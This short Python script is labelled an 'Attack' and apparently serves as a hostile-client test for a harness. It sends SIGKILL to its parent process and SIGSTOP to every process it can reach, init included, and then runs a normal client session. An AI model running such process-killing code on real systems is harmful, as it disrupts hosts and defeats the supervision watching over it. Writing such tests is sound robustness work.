"""Attack: a client that kills its parent and stops every process it can see, then runs a correct session."""
import os
import runpy
import signal

for target, sig in ((os.getppid(), signal.SIGKILL), (-1, signal.SIGSTOP), (1, signal.SIGSTOP)):
    try:
        os.kill(target, sig)
    except OSError:
        pass
runpy.run_path("client_session.py", run_name="__main__")
